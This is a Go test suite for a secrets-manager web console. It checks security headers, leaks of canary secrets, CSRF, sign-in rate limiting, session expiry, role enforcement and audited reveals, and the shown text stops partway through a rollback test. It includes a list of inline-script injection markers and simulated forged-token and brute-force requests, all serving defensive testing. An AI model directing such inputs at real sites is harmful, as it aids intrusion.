package console_test

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/somaagent01/sa01-secrets/internal/audit"
	"github.com/somaagent01/sa01-secrets/internal/console"
	"github.com/somaagent01/sa01-secrets/internal/console/consoletest"
	"github.com/somaagent01/sa01-secrets/internal/opa"
	"github.com/somaagent01/sa01-secrets/internal/secrets"
	"github.com/somaagent01/sa01-secrets/internal/sensitive"
)

const wantCSP = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; " +
	"connect-src 'self'; font-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"

// checkHeaders checks the headers every answer of the console carries.
func checkHeaders(t *testing.T, what string, h http.Header) {
	t.Helper()
	if got := h.Get("Content-Security-Policy"); got != wantCSP {
		t.Errorf("%s: Content-Security-Policy = %q", what, got)
	}
	if !strings.Contains(h.Get("Content-Security-Policy"), "frame-ancestors 'none'") {
		t.Errorf("%s: no frame-ancestors 'none'", what)
	}
	for k, want := range map[string]string{
		"Cache-Control":          "no-store",
		"X-Frame-Options":        "DENY",
		"X-Content-Type-Options": "nosniff",
		"Referrer-Policy":        "no-referrer",
	} {
		if got := h.Get(k); got != want {
			t.Errorf("%s: %s = %q, want %q", what, k, got, want)
		}
	}
}

// pagesOf returns the GET pages of the harness, one per route, with the
// names of its secrets and incident filled in.
func pagesOf(incID string) []string {
	return []string{
		"/", "/ui/", "/ui/signin", "/ui/secrets", "/ui/secrets?prefix=llm/", "/ui/secrets?q=password", "/ui/secrets?q=o&deleted=1",
		"/ui/secret/llm/openai_api_key", "/ui/secret/db/gateway/password", "/ui/new", "/ui/edit/llm/openai_api_key",
		"/ui/history/llm/openai_api_key", "/ui/rollback/llm/openai_api_key?to=1", "/ui/delete/db/worker/password",
		"/ui/undelete/db/worker/password", "/ui/rotate/platform/internal_token", "/ui/access", "/ui/access/llm/openai_api_key",
		"/ui/access?identity=gateway&action=read&secret=llm/openai_api_key", "/ui/audit", "/ui/audit?secret=llm/openai_api_key&outcome=success",
		"/ui/audit.csv", "/ui/audit.json", "/ui/keys", "/ui/incidents", "/ui/incidents?all=1", "/ui/incident/" + incID,
		"/ui/incidents/open/llm/anthropic_api_key", "/ui/static/console.css", "/ui/static/console.js", "/ui/static/htmx.min.js",
		"/ui/no-such-page", "/ui/secret/no/such/secret",
	}
}

func TestHeadersOnEveryAnswer(t *testing.T) {
	h := newHarness(t)
	u := h.newUser()
	for _, p := range []string{"/ui/signin", "/ui/secrets", "/ui/static/htmx.min.js", "/ui/nothing"} {
		checkHeaders(t, "signed out "+p, u.get(p).header)
	}
	r := u.signIn(admin)
	checkHeaders(t, "sign-in", r.header)
	for _, p := range pagesOf("INC-20261102-000000") {
		checkHeaders(t, p, u.get(p).header)
	}
	checkHeaders(t, "reveal", u.post("/ui/reveal/llm/openai_api_key", nil).header)
	checkHeaders(t, "copy", u.post("/ui/copy/llm/openai_api_key", nil).header)
	checkHeaders(t, "sign-out", u.post("/ui/signout", nil).header)
}

// TestCanaryEveryRoute walks every route as each role, and checks that no
// answer but a reveal's carries a stored value, nor does any audit event
// or log line. It fails when a route of the console is left out.
func TestCanaryEveryRoute(t *testing.T) {
	h := newHarness(t)
	ad := h.as(admin)
	// An incident exists, so that every page has something to show.
	r := ad.post("/ui/incidents/open/db/gateway/password", url.Values{"reason": {"canary test"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("open incident: %d %s", r.status, r.body)
	}
	incID := strings.TrimPrefix(r.header.Get("Location"), "/ui/incident/")
	values := h.allValues()
	covered := map[string]bool{}
	routes := http.NewServeMux()
	for _, rt := range h.c.Routes() {
		routes.HandleFunc(rt, func(http.ResponseWriter, *http.Request) {})
	}
	cover := func(method, path string) {
		req := httptest.NewRequest(method, path, nil)
		if _, pattern := routes.Handler(req); pattern != "" {
			covered[pattern] = true
		}
	}
	check := func(what string, r response) {
		t.Helper()
		for _, v := range values {
			if strings.Contains(r.body, v) || strings.Contains(strings.Join(flatten(r.header), "\n"), v) {
				t.Errorf("%s holds the stored value %q", what, v)
			}
		}
		if strings.Contains(r.body, "CANARY-new-unsaved-value") {
			t.Errorf("%s holds the submitted value", what)
		}
	}
	posts := func(u *user) []struct {
		path string
		form url.Values
	} {
		// A held edit of this session, for the save.
		pending := ""
		if m := regexp.MustCompile(`name="pending" value="([^"]+)"`).FindStringSubmatch(
			u.post("/ui/edit/llm/anthropic_api_key", url.Values{"cas": {"1"}, "value": {"CANARY-new-unsaved-value"}}).body); m != nil {
			pending = m[1]
		}
		return []struct {
			path string
			form url.Values
		}{
			{"/ui/edit/llm/openai_api_key", url.Values{"cas": {"2"}, "value": {"CANARY-new-unsaved-value"}}},
			{"/ui/new", url.Values{"cas": {"0"}, "name": {"llm/new_key"}, "value": {"CANARY-new-unsaved-value"}}},
			{"/ui/save/llm/anthropic_api_key", url.Values{"pending": {pending}}},
			{"/ui/incident/" + incID + "/report", url.Values{"note": {"a note"}}},
			{"/ui/rollback/llm/openai_api_key", url.Values{"to": {"1"}, "cas": {"99"}}},
			{"/ui/rotate/db/worker/password", url.Values{"cas": {"99"}, "value": {"x"}}},
			{"/ui/delete/app/web/session_secret", nil},
			{"/ui/undelete/app/web/session_secret", nil},
			{"/ui/incidents/open/db/worker/password", url.Values{"reason": {"canary"}}},
			{"/ui/incident/" + incID + "/close", url.Values{"review": {"canary"}}},
		}
	}
	for _, name := range []string{auditor, responder, admin} {
		u := h.as(name)
		for _, p := range pagesOf(incID) {
			check(name+" GET "+p, u.get(p))
			cover("GET", p)
		}
		for _, f := range posts(u) {
			check(name+" POST "+f.path, u.post(f.path, f.form))
			cover("POST", f.path)
		}
		check(name+" POST /ui/signout", u.post("/ui/signout", nil))
		cover("POST", "/ui/signout")
	}
	v := h.newUser()
	tok := formCSRF.FindStringSubmatch(v.get("/ui/signin").body)[1]
	check("POST /ui/signin", v.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {"sa01c_wrong"}}))
	cover("POST", "/ui/signin")
	// The reveal's answers hold the value; they are the only ones.
	ad = h.as(admin)
	rv := ad.post("/ui/reveal/llm/openai_api_key", nil)
	if !strings.Contains(rv.body, "sk-openai-CANARY-v2-77d0e1") {
		t.Fatalf("the reveal does not show the value:\n%s", rv.body)
	}
	cp := ad.post("/ui/copy/llm/openai_api_key", nil)
	if cp.body != "sk-openai-CANARY-v2-77d0e1" {
		t.Fatalf("copy answered %d %q", cp.status, cp.body)
	}
	cover("POST", "/ui/reveal/llm/openai_api_key")
	cover("POST", "/ui/copy/llm/openai_api_key")
	for _, rt := range h.c.Routes() {
		if !covered[rt] {
			t.Errorf("the canary does not walk %s", rt)
		}
	}
	for _, e := range h.events() {
		b, _ := json.Marshal(e)
		check("audit event "+string(b), response{body: string(b)})
	}
	check("the console's log", response{body: h.logs.String()})
}

func flatten(h http.Header) []string {
	var out []string
	for k, vs := range h {
		for _, v := range vs {
			out = append(out, k+": "+v)
		}
	}
	return out
}

// TestNoExternalRequest checks that no page refers to another origin, and
// that no page holds inline script or style.
func TestNoExternalRequest(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	attr := regexp.MustCompile(`(?i)\b(src|href|action|hx-get|hx-post|data-copy)="([^"]*)"`)
	for _, p := range pagesOf("INC-x") {
		if strings.HasPrefix(p, "/ui/static/") || strings.HasSuffix(p, ".csv") || strings.HasSuffix(p, ".json") {
			continue
		}
		body := u.get(p).body
		for _, m := range attr.FindAllStringSubmatch(body, -1) {
			if !strings.HasPrefix(m[2], "/ui/") && !strings.HasPrefix(m[2], "#") {
				t.Errorf("%s: %s=%q is not this console", p, m[1], m[2])
			}
		}
		low := strings.ToLower(body)
		for _, bad := range []string{"<style", " style=", "<script>", "javascript:", " onclick=", " onload=", " onsubmit="} {
			if strings.Contains(low, bad) {
				t.Errorf("%s holds %q", p, bad)
			}
		}
	}
}

func TestSigninAndSessionCookie(t *testing.T) {
	for _, tlsOn := range []bool{false, true} {
		t.Run(map[bool]string{false: "http", true: "tls"}[tlsOn], func(t *testing.T) {
			h := newHarness(t, harnessOpts{tls: tlsOn})
			u := h.newUser()
			page := u.get("/ui/signin")
			for _, want := range []string{`<label for="credential">Credential</label>`, `type="password"`, `>Sign in</button>`} {
				if !strings.Contains(page.body, want) {
					t.Errorf("sign-in page lacks %s", want)
				}
			}
			r := u.signIn(admin)
			if r.status != http.StatusSeeOther || r.header.Get("Location") != "/ui/secrets" {
				t.Fatalf("sign-in: %d to %q", r.status, r.header.Get("Location"))
			}
			var cookie string
			for _, c := range r.header.Values("Set-Cookie") {
				if strings.Contains(c, "sa01-console=") && !strings.Contains(c, "Max-Age=0") {
					cookie = c
				}
			}
			for _, want := range []string{"HttpOnly", "SameSite=Strict", "Path=/"} {
				if !strings.Contains(cookie, want) {
					t.Errorf("session cookie %q lacks %s", cookie, want)
				}
			}
			if tlsOn != strings.Contains(cookie, "Secure") || tlsOn != strings.HasPrefix(cookie, "__Host-") {
				t.Errorf("session cookie %q: Secure and __Host- must hold exactly under TLS", cookie)
			}
			ev := h.lastEvent(console.ActionSignin)
			if ev.Outcome != audit.Success || ev.Service != admin || !strings.HasPrefix(ev.Actor, "console:ses_") {
				t.Errorf("sign-in event %+v", ev)
			}
			if got := u.get("/ui/secrets"); got.status != 200 || !strings.Contains(got.body, `id="identity">alice<`) {
				t.Errorf("after sign-in: %d", got.status)
			}
		})
	}
}

func TestSigninFailuresAudited(t *testing.T) {
	h := newHarness(t)
	cases := []struct {
		name, cred string
		status     int
		reason     string
		service    string
	}{
		{"unknown credential", "sa01c_" + strings.Repeat("A", 43), 401, "invalid credential", ""},
		{"empty", "", 401, "empty or oversized credential", ""},
		{"oversized", strings.Repeat("x", 600), 401, "empty or oversized credential", ""},
		{"a service's credential", h.creds[service], 403, "not an operator", service},
	}
	for _, tc := range cases {
		u := h.newUser()
		page := u.get("/ui/signin")
		tok := formCSRF.FindStringSubmatch(page.body)[1]
		r := u.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {tc.cred}})
		if r.status != tc.status {
			t.Errorf("%s: status %d, want %d", tc.name, r.status, tc.status)
		}
		ev := h.lastEvent(console.ActionSignin)
		if ev.Outcome != audit.Failure || ev.Reason != tc.reason || ev.Service != tc.service {
			t.Errorf("%s: event %+v", tc.name, ev)
		}
		if len(tc.cred) > 10 && strings.Contains(r.body, tc.cred) {
			t.Errorf("%s: the page repeats the credential", tc.name)
		}
		if u.get("/ui/secrets").status != http.StatusSeeOther {
			t.Errorf("%s: a session exists", tc.name)
		}
	}
	// Revoked: the credential no longer signs in.
	h.b.IDs.Revoke(responder)
	if r := h.newUser().signIn(responder); r.status != 401 {
		t.Errorf("revoked: %d", r.status)
	}
}

func TestSigninRateLimited(t *testing.T) {
	h := newHarness(t)
	u := h.newUser()
	bad := "sa01c_" + strings.Repeat("B", 43)
	var last response
	for i := 0; i < 12; i++ {
		tok := formCSRF.FindStringSubmatch(u.get("/ui/signin").body)[1]
		last = u.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {bad}})
	}
	if last.status != http.StatusTooManyRequests {
		t.Fatalf("12th failure: %d", last.status)
	}
	// Even the right credential is refused while blocked.
	tok := formCSRF.FindStringSubmatch(u.get("/ui/signin").body)[1]
	if r := u.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {h.creds[admin]}}); r.status != http.StatusTooManyRequests {
		t.Errorf("blocked source signed in: %d", r.status)
	}
	n := 0
	for _, e := range h.events() {
		if e.Action == console.ActionSignin && e.Reason == "too many failures from this address" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("the block was audited %d times, want once", n)
	}
	h.clock.add(6 * time.Minute)
	if r := u.signIn(admin); r.status != http.StatusSeeOther {
		t.Errorf("after the window: %d", r.status)
	}
}

func TestCSRF(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	before := len(h.events())
	for _, tok := range []string{"", "wrong", strings.Repeat("A", 43)} {
		r := u.post("/ui/delete/db/worker/password", url.Values{"csrf": {tok}})
		if r.status != http.StatusForbidden {
			t.Errorf("token %q: %d", tok, r.status)
		}
	}
	d, err := h.b.DB.Secret(context.Background(), "db/worker/password")
	if err != nil || d.Deleted() {
		t.Fatalf("deleted without a CSRF token: %v %v", d.Deleted(), err)
	}
	n := 0
	for _, e := range h.events()[before:] {
		if e.Action == console.ActionCSRF && e.Outcome == audit.Failure && e.Service == admin {
			n++
		}
	}
	if n != 3 {
		t.Errorf("%d CSRF failures audited, want 3", n)
	}
	// Another session's token does not work either.
	other := h.as(admin)
	if r := u.post("/ui/delete/db/worker/password", url.Values{"csrf": {other.csrf}}); r.status != http.StatusForbidden {
		t.Errorf("another session's token: %d", r.status)
	}
	// The reveal needs it too, by form or header.
	if r := u.post("/ui/reveal/llm/openai_api_key", url.Values{"csrf": {""}}); r.status != http.StatusForbidden || strings.Contains(r.body, "CANARY") {
		t.Errorf("reveal without a token: %d", r.status)
	}
	req, _ := http.NewRequest("POST", h.ts.URL+"/ui/copy/llm/openai_api_key", nil)
	req.Header.Set("X-CSRF-Token", u.csrf)
	if r := u.do(req); r.status != 200 {
		t.Errorf("copy with the header: %d", r.status)
	}
	// A cross-site POST is refused before any handler, token or not.
	req, _ = http.NewRequest("POST", h.ts.URL+"/ui/delete/db/worker/password", strings.NewReader("csrf="+u.csrf))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if r := u.do(req); r.status != http.StatusForbidden {
		t.Errorf("cross-site POST: %d", r.status)
	}
	// The sign-in form has its token too.
	v := h.newUser()
	v.get("/ui/signin")
	if r := v.post("/ui/signin", url.Values{"csrf": {""}, "credential": {h.creds[admin]}}); r.status != http.StatusForbidden {
		t.Errorf("sign-in without its token: %d", r.status)
	}
	// With the token of another browser's form (no matching cookie).
	w := h.newUser()
	tok := formCSRF.FindStringSubmatch(w.get("/ui/signin").body)[1]
	if r := v.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {h.creds[admin]}}); r.status != http.StatusForbidden {
		t.Errorf("sign-in with another browser's token: %d", r.status)
	}
	// Its actual delete works.
	if r := u.post("/ui/delete/db/worker/password", nil); r.status != http.StatusSeeOther {
		t.Errorf("delete with the token: %d %s", r.status, r.body)
	}
}

func TestSessionExpiry(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	// Idle: 14 minutes between requests keep it alive ...
	for i := 0; i < 3; i++ {
		h.clock.add(14 * time.Minute)
		if r := u.get("/ui/secrets"); r.status != 200 {
			t.Fatalf("after %d idle periods of 14 minutes: %d", i+1, r.status)
		}
	}
	// ... 15 end it.
	h.clock.add(15 * time.Minute)
	r := u.get("/ui/keys")
	if r.status != http.StatusSeeOther || !strings.HasPrefix(r.header.Get("Location"), "/ui/signin?expired=1") {
		t.Fatalf("after 15 idle minutes: %d %q", r.status, r.header.Get("Location"))
	}
	if !strings.Contains(r.header.Get("Location"), "next=%2Fui%2Fkeys") {
		t.Errorf("the sign-in does not lead back: %q", r.header.Get("Location"))
	}
	if p := u.get(r.header.Get("Location")); !strings.Contains(p.body, "Your session expired") {
		t.Errorf("the sign-in page does not say the session expired")
	}
	if r := u.get("/ui/secrets"); r.status != http.StatusSeeOther {
		t.Errorf("an expired session came back: %d", r.status)
	}
	// Absolute: busy for 8 hours, then out.
	u = h.as(admin)
	for i := 0; i < 8*60/10-1; i++ {
		h.clock.add(10 * time.Minute)
		if r := u.get("/ui/secrets"); r.status != 200 {
			t.Fatalf("active session ended after %d minutes", (i+1)*10)
		}
	}
	h.clock.add(10 * time.Minute)
	if r := u.get("/ui/secrets"); r.status != http.StatusSeeOther {
		t.Errorf("a session lived past 8 hours: %d", r.status)
	}
	// A POST of an expired session changes nothing.
	u = h.as(admin)
	h.clock.add(16 * time.Minute)
	if r := u.post("/ui/delete/llm/anthropic_api_key", nil); r.status != http.StatusSeeOther || !strings.HasPrefix(r.header.Get("Location"), "/ui/signin") {
		t.Errorf("expired POST: %d %q", r.status, r.header.Get("Location"))
	}
	if s, _ := h.b.DB.Secret(context.Background(), "llm/anthropic_api_key"); s.Deleted() {
		t.Error("an expired session deleted a secret")
	}
	// An htmx request is told where to go.
	u = h.as(admin)
	h.clock.add(16 * time.Minute)
	req, _ := http.NewRequest("GET", h.ts.URL+"/ui/secrets?q=x", nil)
	req.Header.Set("HX-Request", "true")
	if r := u.do(req); r.status != 401 || !strings.HasPrefix(r.header.Get("HX-Redirect"), "/ui/signin?expired=1") {
		t.Errorf("htmx after expiry: %d %q", r.status, r.header.Get("HX-Redirect"))
	}
}

func TestRevocationEndsSessions(t *testing.T) {
	h := newHarness(t)
	u := h.as(auditor)
	h.b.IDs.Revoke(auditor)
	if r := u.get("/ui/audit"); r.status != http.StatusSeeOther {
		t.Errorf("a revoked operator's session still works: %d", r.status)
	}
	// A role change applies at the next request.
	v := h.as(responder)
	h.b.IDs.SetRole(responder, console.RoleAdmin)
	if r := v.get("/ui/secret/llm/openai_api_key"); !strings.Contains(r.body, `id="reveal"`) {
		t.Error("a new role is not applied at once")
	}
}

func TestSignoutEndsSession(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	r := u.post("/ui/signout", nil)
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/ui/signin?signedout=1" {
		t.Fatalf("sign-out: %d %q", r.status, r.header.Get("Location"))
	}
	if ev := h.lastEvent(console.ActionSignout); ev.Service != admin || ev.Outcome != audit.Success {
		t.Errorf("sign-out event %+v", ev)
	}
	if r := u.get("/ui/secrets"); r.status != http.StatusSeeOther {
		t.Errorf("after sign-out: %d", r.status)
	}
}

func TestRolesShapePages(t *testing.T) {
	h := newHarness(t)
	page := "/ui/secret/llm/openai_api_key"
	for _, tc := range []struct {
		who                        string
		reveal, edit, rotate, open bool
	}{
		{admin, true, true, true, true},
		{auditor, false, false, false, false},
		{responder, false, false, false, true},
	} {
		body := h.as(tc.who).get(page).body
		for id, want := range map[string]bool{`id="reveal"`: tc.reveal, `id="copy"`: tc.reveal, `id="edit"`: tc.edit, `id="rotate"`: tc.rotate, `id="open-incident"`: tc.open} {
			if strings.Contains(body, id) != want {
				t.Errorf("%s on %s: %s shown = %v, want %v", tc.who, page, id, !want, want)
			}
		}
	}
	// The pages each role may see, by the one role table
	// (identity.Decide): a responder has the rotation status and the
	// incidents, not the audit trail nor who may read what.
	for _, tc := range []struct {
		who   string
		pages map[string]int
	}{
		{auditor, map[string]int{"/ui/audit": 200, "/ui/keys": 200, "/ui/incidents": 200, "/ui/access/llm/openai_api_key": 200}},
		{responder, map[string]int{"/ui/audit": 403, "/ui/keys": 200, "/ui/incidents": 200, "/ui/access/llm/openai_api_key": 403}},
	} {
		u := h.as(tc.who)
		for p, want := range tc.pages {
			if r := u.get(p); r.status != want {
				t.Errorf("%s %s: %d, want %d", tc.who, p, r.status, want)
			}
		}
	}
}

// TestRolesEnforced posts what a role may not do, past the pages that do
// not offer it: each is refused, changes nothing and is audited as
// denied.
func TestRolesEnforced(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	for _, who := range []string{auditor, responder} {
		u := h.as(who)
		for _, f := range []struct {
			path   string
			form   url.Values
			action string
		}{
			{"/ui/reveal/llm/openai_api_key", nil, "reveal"},
			{"/ui/copy/llm/openai_api_key", nil, "reveal"},
			{"/ui/edit/llm/openai_api_key", url.Values{"cas": {"2"}, "value": {"new"}}, "diff"},
			{"/ui/rollback/llm/openai_api_key", url.Values{"to": {"1"}, "cas": {"2"}}, "rollback"},
			{"/ui/delete/llm/openai_api_key", nil, "delete"},
			{"/ui/rotate/llm/openai_api_key", url.Values{"cas": {"2"}, "value": {"new"}}, "rotate"},
		} {
			r := u.post(f.path, f.form)
			if r.status != http.StatusForbidden {
				t.Errorf("%s POST %s: %d", who, f.path, r.status)
			}
			if strings.Contains(r.body, "CANARY") {
				t.Errorf("%s POST %s: a value in the answer", who, f.path)
			}
			ev := h.events()[len(h.events())-1]
			if ev.Action != f.action || ev.Outcome != audit.Failure || ev.Reason != "denied" || ev.Service != who || ev.Secret != "llm/openai_api_key" {
				t.Errorf("%s POST %s: last event %+v", who, f.path, ev)
			}
		}
		if who == auditor {
			if r := u.post("/ui/incidents/open/llm/openai_api_key", url.Values{"reason": {"x"}}); r.status != http.StatusForbidden {
				t.Errorf("auditor opened an incident: %d", r.status)
			}
		}
	}
	s, err := h.b.DB.Secret(ctx, "llm/openai_api_key")
	if err != nil || s.CurrentVersion != 2 || s.Deleted() {
		t.Errorf("the secret changed: version %d, deleted %v", s.CurrentVersion, s.Deleted())
	}
}

// TestResponderRotatesUnderIncident: a responder opens an incident and
// replaces the compromised secret; the clock marks the new secret.
func TestResponderRotatesUnderIncident(t *testing.T) {
	h := newHarness(t)
	u := h.as(responder)
	if body := u.get("/ui/secret/platform/internal_token").body; strings.Contains(body, `id="rotate"`) {
		t.Error("rotate offered to a responder before any incident")
	}
	r := u.post("/ui/incidents/open/platform/internal_token", url.Values{"reason": {"pasted in a ticket"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("open: %d %s", r.status, r.body)
	}
	incPath := r.header.Get("Location")
	// The procedure (package respond) wrote a generated replacement as
	// version 2 at once: the 1-hour step is met.
	inc := u.get(incPath).body
	if !regexp.MustCompile(`generate and deploy a new secret</td><td>[^<]*</td><td>met `).MatchString(inc) {
		t.Errorf("the new-secret step is not met after the procedure wrote a replacement:\n%s", inc)
	}
	if body := u.get("/ui/secret/platform/internal_token").body; !strings.Contains(body, `id="rotate"`) {
		t.Fatal("rotate not offered to a responder under incident")
	}
	h.clock.add(10 * time.Minute)
	r = u.post("/ui/rotate/platform/internal_token", url.Values{"cas": {"2"}, "value": {""}})
	if r.status != http.StatusSeeOther || !strings.Contains(r.header.Get("Location"), "saved=3") {
		t.Fatalf("rotate: %d %q %s", r.status, r.header.Get("Location"), r.body)
	}
	v, err := h.b.Service.Get(context.Background(), "platform/internal_token", 3)
	if err != nil || len(v.Value.Reveal()) != 43 {
		t.Fatalf("the generated token: %v (%d bytes)", err, len(v.Value.Reveal()))
	}
	// The report: marks the audit step; the close needs the review.
	h.clock.add(14 * time.Minute)
	r = u.post(incPath+"/report", url.Values{"note": {"rotated by the responder"}})
	if r.status != 200 || !strings.Contains(r.body, "Report written") || !strings.Contains(r.body, "note by rita: rotated by the responder") {
		t.Fatalf("report: %d\n%s", r.status, r.body)
	}
	if r := u.post(incPath+"/close", url.Values{"review": {""}}); r.status != http.StatusBadRequest {
		t.Errorf("close without a review: %d", r.status)
	}
	if r := u.post(incPath+"/close", url.Values{"review": {"scan tickets for tokens"}}); r.status != http.StatusSeeOther {
		t.Fatalf("close: %d %s", r.status, r.body)
	}
	final := u.get(incPath).body
	for _, want := range []string{"closed", "Review: scan tickets for tokens", "review and update security procedures"} {
		if !strings.Contains(final, want) {
			t.Errorf("closed incident page lacks %q", want)
		}
	}
	for _, a := range []string{"incident-open", "incident-report", "incident-close"} {
		if ev := h.lastEvent(a); ev.Service != responder || ev.Outcome != audit.Success {
			t.Errorf("%s event %+v", a, ev)
		}
	}
	// Closed: not again.
	if r := u.post(incPath+"/close", url.Values{"review": {"again"}}); r.status != http.StatusConflict {
		t.Errorf("closing twice: %d", r.status)
	}
}

func TestRevealAudited(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	page := u.get("/ui/secret/llm/openai_api_key").body
	if strings.Contains(page, "sk-openai-CANARY") || !strings.Contains(page, "never") {
		t.Fatal("the secret's page holds the value, or a reveal before any")
	}
	h.clock.add(time.Minute)
	r := u.post("/ui/reveal/llm/openai_api_key", url.Values{"version": {"1"}})
	if r.status != 200 || !strings.Contains(r.body, `<pre class="revealed" id="secret-value">sk-openai-CANARY-v1-4f9c2a</pre>`) {
		t.Fatalf("reveal of version 1: %d\n%s", r.status, r.body)
	}
	ev := h.lastEvent(console.ActionReveal)
	if ev.Service != admin || ev.Secret != "llm/openai_api_key" || ev.Version != 1 || ev.Outcome != audit.Success || ev.Detail != "console: screen" {
		t.Errorf("reveal event %+v", ev)
	}
	if !strings.Contains(r.body, "last revealed by alice at 2026-11-02 09:01:00Z") {
		t.Errorf("the page does not say who revealed it last")
	}
	// Reading for a reveal is one event: no separate read.
	n := 0
	for _, e := range h.events() {
		if e.Secret == "llm/openai_api_key" && e.Service == admin && (e.Action == "read" || e.Action == "reveal") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d read or reveal events for one reveal", n)
	}
	cp := u.post("/ui/copy/llm/openai_api_key", nil)
	if cp.header.Get("Content-Type") != "text/plain; charset=utf-8" || cp.header.Get("X-Secret-Version") != "2" {
		t.Errorf("copy headers %v", cp.header)
	}
	if ev := h.lastEvent(console.ActionReveal); ev.Detail != "console: clipboard" || ev.Version != 2 {
		t.Errorf("copy event %+v", ev)
	}
	// A compromised version is not revealed.
	u.post("/ui/incidents/open/llm/openai_api_key", url.Values{"reason": {"test"}})
	if r := u.post("/ui/reveal/llm/openai_api_key", nil); r.status != http.StatusGone || strings.Contains(r.body, "CANARY") {
		t.Errorf("reveal of a compromised version: %d", r.status)
	}
}

// TestEditMaskedDiffAndConflict: the review shows a masked diff and holds
// the value; a save after another write is refused.
func TestEditMaskedDiffAndConflict(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	const newValue = "sk-openai-NEW-value-123"
	r := u.post("/ui/edit/llm/openai_api_key", url.Values{"cas": {"2"}, "value": {newValue + "\r\n"}, "trim": {"1"}, "class": {"api-key"}})
	if r.status != 200 {
		t.Fatalf("review: %d %s", r.status, r.body)
	}
	for _, want := range []string{`id="diff-changed">yes`, "26 bytes", "23 bytes", "Save as version 3"} {
		if !strings.Contains(r.body, want) {
			t.Errorf("review lacks %q", want)
		}
	}
	fps := regexp.MustCompile(`<code>([0-9a-f]{4} [0-9a-f]{4} [0-9a-f]{4} [0-9a-f]{4})</code>`).FindAllStringSubmatch(r.body, -1)
	if len(fps) != 2 || fps[0][1] == fps[1][1] {
		t.Errorf("fingerprints %v", fps)
	}
	if strings.Contains(r.body, newValue) || strings.Contains(r.body, "CANARY") {
		t.Fatal("the review holds a value")
	}
	if ev := h.lastEvent(console.ActionDiff); ev.Service != admin || ev.Version != 2 {
		t.Errorf("diff event %+v", ev)
	}
	pending := regexp.MustCompile(`name="pending" value="([^"]+)"`).FindStringSubmatch(r.body)[1]
	// Someone else writes first.
	other := audit.WithCaller(context.Background(), audit.Caller{Service: "deployer"})
	if _, err := h.b.Service.Put(other, "llm/openai_api_key", sensitive.New("from-elsewhere"), secrets.PutOptions{}); err != nil {
		t.Fatal(err)
	}
	s := u.post("/ui/save/llm/openai_api_key", url.Values{"pending": {pending}})
	if s.status != http.StatusConflict || !strings.Contains(s.body, `id="conflict"`) || !strings.Contains(s.body, "you edited version 2, but the current version is 3") {
		t.Fatalf("save after another write: %d\n%s", s.status, s.body)
	}
	v, _ := h.b.Service.Get(context.Background(), "llm/openai_api_key", 0)
	if v.Value.Reveal() != "from-elsewhere" {
		t.Error("the stale save overwrote the other write")
	}
	// The held value is gone: a replay saves nothing.
	if s := u.post("/ui/save/llm/openai_api_key", url.Values{"pending": {pending}}); s.status != http.StatusGone {
		t.Errorf("replayed save: %d", s.status)
	}
	// Same value: "not changed"; then a real save.
	r = u.post("/ui/edit/llm/openai_api_key", url.Values{"cas": {"3"}, "value": {"from-elsewhere"}})
	if !strings.Contains(r.body, `id="diff-changed">no`) {
		t.Error("an unchanged value is shown as changed")
	}
	r = u.post("/ui/edit/llm/openai_api_key", url.Values{"cas": {"3"}, "value": {newValue}})
	pending = regexp.MustCompile(`name="pending" value="([^"]+)"`).FindStringSubmatch(r.body)[1]
	if s := u.post("/ui/save/llm/openai_api_key", url.Values{"pending": {pending}}); s.status != http.StatusSeeOther || s.header.Get("Location") != "/ui/secret/llm/openai_api_key?saved=4" {
		t.Fatalf("save: %d %q", s.status, s.header.Get("Location"))
	}
	v, _ = h.b.Service.Get(context.Background(), "llm/openai_api_key", 0)
	if v.Value.Reveal() != newValue {
		t.Error("the save did not write the reviewed value")
	}
	// A held edit belongs to its session.
	r = u.post("/ui/edit/llm/openai_api_key", url.Values{"cas": {"4"}, "value": {"x"}})
	pending = regexp.MustCompile(`name="pending" value="([^"]+)"`).FindStringSubmatch(r.body)[1]
	if s := h.as(admin).post("/ui/save/llm/openai_api_key", url.Values{"pending": {pending}}); s.status != http.StatusGone {
		t.Errorf("another session saved a held edit: %d", s.status)
	}
	// A new secret whose name exists is a conflict at review.
	if r := u.post("/ui/new", url.Values{"cas": {"0"}, "name": {"llm/openai_api_key"}, "value": {"x"}}); r.status != http.StatusConflict {
		t.Errorf("new secret over an existing one: %d", r.status)
	}
}

func TestHistoryRollbackDeleteUndelete(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	hist := u.get("/ui/history/llm/openai_api_key").body
	if !strings.Contains(hist, `href="/ui/rollback/llm/openai_api_key?to=1"`) {
		t.Fatal("no rollback link in the history")
	}
	conf := u.get("/ui/rollback/llm/openai_api_key?to=1")
	if !strings.Contains(conf.body, "Roll back to version 1") {
		t.Fatal("no confirmation")
	}
	if r := u.post("/ui/rollback/llm/openai_api_key", url.Values{"to": {"1"}, "cas": {"1"}}); r.status != http.StatusConflict {
		t.Errorf("rollback with a stale cas: %d", r.status)
	}
	if r := u.post("/ui/rollback/llm/openai_api_key", url.Values{"to": {"1"}, "cas": {"2"}}); r.status != http.StatusSeeOther {
		t.Fatalf("rollback: %d %s", r.status, r.body)
	}
